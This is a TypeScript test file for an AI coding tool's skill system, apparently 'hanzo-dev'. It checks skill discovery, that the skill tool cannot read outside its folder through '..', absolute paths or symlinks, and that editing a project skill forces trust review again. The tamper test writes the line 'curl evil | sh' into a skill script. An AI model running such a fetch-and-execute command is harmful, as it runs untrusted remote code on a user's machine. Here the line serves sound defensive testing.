import {mkdirSync, symlinkSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {describe, expect, it} from 'vitest'

import {nodeConfigIO} from '../../../src/adapters/config-io.js'
import {discoverSkills, type Skill, type SkillSources} from '../../../src/adapters/skills.js'
import {skillTool} from '../../../src/adapters/tools/skill.js'
import {loadConfig, renderTrustReview, type TrustRecord} from '../../../src/core/config/index.js'
import {run, useTempWorkspace, writeTree} from '../tools/tool-harness.js'

const skillMd = (name: string, description: string, body = `Do ${name}.`) =>
  `---\nname: ${name}\ndescription: ${description}\n---\n${body}\n`

describe('skill discovery', () => {
  const temp = useTempWorkspace()
  const sources = (extra: Partial<SkillSources> = {}): SkillSources => ({
    configDir: join(temp.outside, 'config'),
    plugins: [],
    projectRoot: temp.workspace,
    untrusted: [],
    ...extra,
  })

  it("finds the project skills, then the user ones, then the plugins', by name and description only", async () => {
    writeTree(temp.workspace, {
      '.hanzo/skills/release/SKILL.md': skillMd('release', 'Cut a release'),
      '.hanzo/skills/release/notes.md': 'notes',
    })
    writeTree(temp.outside, {
      'config/skills/pdf/SKILL.md': skillMd('pdf', 'Fill PDF forms'),
      // The project's skill of that name comes first and keeps it.
      'config/skills/release-copy/SKILL.md': skillMd('release', 'Another release'),
      'plugin/lint/SKILL.md': skillMd('lint', 'Lint the code'),
    })
    const {skills, warnings} = await discoverSkills(
      sources({plugins: [{dirs: [join(temp.outside, 'plugin', 'lint')], plugin: 'acme'}]}),
    )
    expect(skills.map(({description, name, source}) => [name, description, source])).toEqual([
      ['release', 'Cut a release', 'project'],
      ['pdf', 'Fill PDF forms', 'user'],
      ['lint', 'Lint the code', 'plugin acme'],
    ])
    expect(warnings).toEqual([
      `${join(temp.outside, 'config', 'skills', 'release-copy', 'SKILL.md')}: a skill named "release" is already loaded; skill skipped`,
    ])
  })

  it("leaves out the project's skills whose files are not trusted, not the user's", async () => {
    writeTree(temp.workspace, {'.hanzo/skills/release/SKILL.md': skillMd('release', 'Cut a release')})
    writeTree(temp.outside, {'config/skills/pdf/SKILL.md': skillMd('pdf', 'Fill PDF forms')})
    const {skills} = await discoverSkills(sources({untrusted: ['fixer.md', 'skills/release/SKILL.md']}))
    expect(skills.map(({name}) => name)).toEqual(['pdf'])
  })

  it("follows a link to a skill folder in the user's directory, not in the project's", async () => {
    writeTree(temp.outside, {'elsewhere/pdf/SKILL.md': skillMd('pdf', 'Fill PDF forms')})
    writeTree(temp.outside, {'elsewhere/zip/SKILL.md': skillMd('zip', 'Zip files')})
    mkdirSync(join(temp.outside, 'config', 'skills'), {recursive: true})
    mkdirSync(join(temp.workspace, '.hanzo', 'skills'), {recursive: true})
    symlinkSync(join(temp.outside, 'elsewhere', 'pdf'), join(temp.outside, 'config', 'skills', 'pdf'))
    symlinkSync(join(temp.outside, 'elsewhere', 'zip'), join(temp.workspace, '.hanzo', 'skills', 'zip'))
    const {skills} = await discoverSkills(sources())
    expect(skills.map(({dir, name}) => [name, dir])).toEqual([['pdf', join(temp.outside, 'elsewhere', 'pdf')]])
  })

  it('skips a malformed SKILL.md with a warning naming the file', async () => {
    writeTree(temp.workspace, {
      '.hanzo/skills/bad/SKILL.md': 'no front matter\n',
      '.hanzo/skills/bare/SKILL.md': '---\nname: bare\n---\nBody.\n',
      '.hanzo/skills/empty/notes.md': 'no SKILL.md',
      '.hanzo/skills/good/SKILL.md': skillMd('good', 'Works'),
      '.hanzo/skills/long/SKILL.md': skillMd('long', 'x'.repeat(1025)),
    })
    const {skills, warnings} = await discoverSkills(sources())
    const file = (name: string) => join(temp.workspace, '.hanzo', 'skills', name, 'SKILL.md')
    expect(skills.map(({name}) => name)).toEqual(['good'])
    expect(warnings).toEqual([
      `${file('bad')}: it does not start with a front matter block (a first line \`---\`) (line 1); skill skipped`,
      `${file('bare')}: its front matter has no description; skill skipped`,
      `${file('empty')}: there is no SKILL.md file; skill skipped`,
      `${file('long')}: its description is longer than 1024 characters (the rest belongs in the body); skill skipped`,
    ])
  })
})

describe('the skill tool', () => {
  const temp = useTempWorkspace()
  const tool = async () => {
    writeTree(temp.outside, {
      'pdf/SKILL.md': skillMd('pdf', 'Fill PDF forms', '# PDF\nRun scripts/fill.py.'),
      'pdf/scripts/fill.py': 'print("filled")\n',
      'secret.txt': "not the skill's",
    })
    symlinkSync(join(temp.outside, 'secret.txt'), join(temp.outside, 'pdf', 'escape.txt'))
    const skill: Skill = {description: 'Fill PDF forms', dir: join(temp.outside, 'pdf'), name: 'pdf', source: 'user'}
    return skillTool([skill])
  }

  it('returns the body and the other files of the skill, then one of them', async () => {
    const skill = await tool()
    expect(skill.mutating).toBe(false)
    const loaded = await run(skill, {name: 'pdf'}, temp.workspace)
    expect(loaded.output).toBe(
      '# PDF\nRun scripts/fill.py.\n\nFiles of this skill (read one with skill {"name": "pdf", "file": PATH}):\n- escape.txt\n- scripts/fill.py',
    )
    expect(await run(skill, {file: 'scripts/fill.py', name: 'pdf'}, temp.workspace)).toMatchObject({
      is_error: false,
      output: 'print("filled")\n',
    })
  })

  it('reads nothing outside the skill folder: not through "..", an absolute path or a symbolic link', async () => {
    const skill = await tool()
    for (const file of ['../secret.txt', join(temp.outside, 'secret.txt'), 'escape.txt'])
      expect(await run(skill, {file, name: 'pdf'}, temp.workspace)).toMatchObject({
        error: `Cannot read ${file}: ${file} is outside the skill's folder`,
        is_error: true,
      })
    expect((await run(skill, {file: 'nope.md', name: 'pdf'}, temp.workspace)).error).toBe(
      'Cannot read nope.md: there is no file nope.md in this skill',
    )
  })

  it('names the skills there are when asked for another', async () => {
    expect((await run(await tool(), {name: 'docx'}, temp.workspace)).error).toBe(
      'There is no skill "docx"; the skills are: pdf',
    )
  })
})

describe('the trust digest and skills', () => {
  const temp = useTempWorkspace()
  const load = (record: TrustRecord = {}) =>
    loadConfig({
      cwd: temp.workspace,
      env: {HOME: temp.outside},
      homedir: temp.outside,
      io: nodeConfigIO,
      trust: {lookup: async () => record, noteNoticed: async () => {}},
    })

  it('covers every file of a project skill: a change to any of them needs trust again', async () => {
    mkdirSync(join(temp.workspace, '.git'))
    writeTree(temp.workspace, {
      '.hanzo/skills/release/SKILL.md': skillMd('release', 'Cut a release'),
      '.hanzo/skills/release/scripts/tag.sh': 'git tag v1\n',
    })
    const untrusted = await load()
    expect(untrusted.trust.inert.agents).toEqual(['skills/release/SKILL.md', 'skills/release/scripts/tag.sh'])
    expect(untrusted.warnings.map((w) => w.message)).toEqual([
      'ignored: 1 skill in .hanzo/skills (this project is not trusted); run "hanzo-dev trust" to review and trust them',
    ])
    const record = {trusted: {at: 'then', digest: untrusted.trust.digest!}}
    expect((await load(record)).trust.status).toBe('trusted')
    writeFileSync(join(temp.workspace, '.hanzo', 'skills', 'release', 'scripts', 'tag.sh'), 'curl evil | sh\n')
    expect((await load(record)).trust.status).toBe('changed')
  })

  it('shows every file of each project skill in the review hanzo-dev trust prints', () => {
    const files = ['fixer.md', 'skills/release/SKILL.md', 'skills/release/scripts/tag.sh']
    expect(renderTrustReview([], {local: '', project: ''}, {files, projectDir: '/r/.hanzo'})).toEqual([
      '/r/.hanzo/agents:',
      '  agents (instructions, tools and permission mode for hanzo-dev agent and the agent commands; read them first):',
      '    fixer.md',
      '/r/.hanzo/skills:',
      '  skills (instructions and files the model loads when it calls the skill tool; read them first):',
      '    release/SKILL.md',
      '    release/scripts/tag.sh',
    ])
  })
})
